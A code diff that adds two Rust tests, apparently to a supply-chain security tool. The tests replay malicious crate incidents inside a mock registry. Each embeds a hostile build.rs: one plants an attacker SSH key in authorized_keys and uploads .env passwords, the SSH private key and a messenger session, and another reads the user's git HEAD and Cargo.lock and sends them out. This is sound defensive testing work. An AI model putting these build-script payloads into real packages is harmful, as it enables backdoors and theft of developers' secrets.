@@ -288,6 +288,90 @@ fn rustsec_2026_0107_a_build_script_sends_away_what_it_finds() {
     .play();
 }
 
+/// April 2026, the family of `microsoftsystem64` (0100 to 0102): a way back in is left among the keys that may log in, and what
+/// looks like credentials, in the workspace and in the home, is sent away, sessions of programs included.
+#[test]
+fn rustsec_2026_0100_a_key_is_left_and_sessions_are_taken() {
+    let registry = Registry::new(&[Crate::new("system-of", "0.1.0")]);
+    let victim = registry.workspace("incident-persists", &["system-of"], "fn main() {}\n");
+    victim
+        .workspace
+        .write(".env", "DATABASE_PASSWORD=the-password-of-the-service\n");
+    let session = victim.home.path().join(".local/share/messenger/tdata");
+    fs::create_dir_all(&session).expect("made");
+    fs::write(session.join("key_datas"), "the-session-of-the-user").expect("written");
+    Incident {
+        victim,
+        registry,
+        attacker: Attacker::new(),
+        publish: &|crates, prelude| {
+            crates.push(Crate::new("system-of", "0.1.1").file(
+                "build.rs",
+                &format!(
+                    "{prelude}\nfn main() {{
+                        write(format!(\"{{HOME}}/.ssh/authorized_keys\"), \"ssh-ed25519 AAAA attacker\\n\");
+                        let mut all = String::new();
+                        for path in [format!(\"{{WORKSPACE}}/.env\"), format!(\"{{HOME}}/.ssh/id_ed25519\"),
+                                     format!(\"{{HOME}}/.local/share/messenger/tdata/key_datas\")] {{
+                            all.push_str(&std::fs::read_to_string(path).unwrap_or_default());
+                        }}
+                        http(\"/upload\", &all);
+                    }}\n"
+                ),
+            ));
+        },
+        told: &[("system-of", &["new-build-scripts"])],
+        leaves: &[".ssh/authorized_keys"],
+        hears: &[
+            "/upload",
+            "the-password-of-the-service",
+            SECRET,
+            "the-session-of-the-user",
+        ],
+    }
+    .play();
+}
+
+/// June 2026, `onering`: the build script of a library looks upwards from where it builds for the repository of the program
+/// that uses it, and sends away what was last changed there.
+#[test]
+fn june_2026_a_build_script_takes_the_sources_of_its_user() {
+    let registry = Registry::new(&[Crate::new("one-of-rings", "1.4.0")]);
+    let victim = registry.workspace("incident-looks-up", &["one-of-rings"], "fn main() {}\n");
+    victim
+        .workspace
+        .write(".git/HEAD", "ref: refs/heads/the-unreleased-feature\n");
+    Incident {
+        victim,
+        registry,
+        attacker: Attacker::new(),
+        publish: &|crates, prelude| {
+            crates.push(Crate::new("one-of-rings", "1.4.1").file(
+                "build.rs",
+                &format!(
+                    "{prelude}\nfn main() {{
+                        let mut at = std::path::PathBuf::from(std::env::var(\"OUT_DIR\").unwrap());
+                        let mut all = String::new();
+                        while at.pop() {{
+                            let Ok(head) = std::fs::read_to_string(at.join(\".git/HEAD\")) else {{ continue }};
+                            all.push_str(&head);
+                            all.push_str(&std::fs::read_to_string(at.join(\"Cargo.lock\")).unwrap_or_default());
+                            break;
+                        }}
+                        // What it knows of the place in other ways.
+                        all.push_str(&std::fs::read_to_string(format!(\"{{WORKSPACE}}/.git/HEAD\")).unwrap_or_default());
+                        if !all.is_empty() {{ http(\"/envelope\", &all); }}
+                    }}\n"
+                ),
+            ));
+        },
+        told: &[("one-of-rings", &["new-build-scripts"])],
+        leaves: &[],
+        hears: &["/envelope", "the-unreleased-feature", "one-of-rings"],
+    }
+    .play();
+}
+
 /// 2022, `rustdecimal`, here at build time: it acts on machines of CI only, where it fetches a program to `/tmp` and runs it.
 #[test]
 fn rustsec_2022_0042_a_namesake_acts_on_ci_only() {
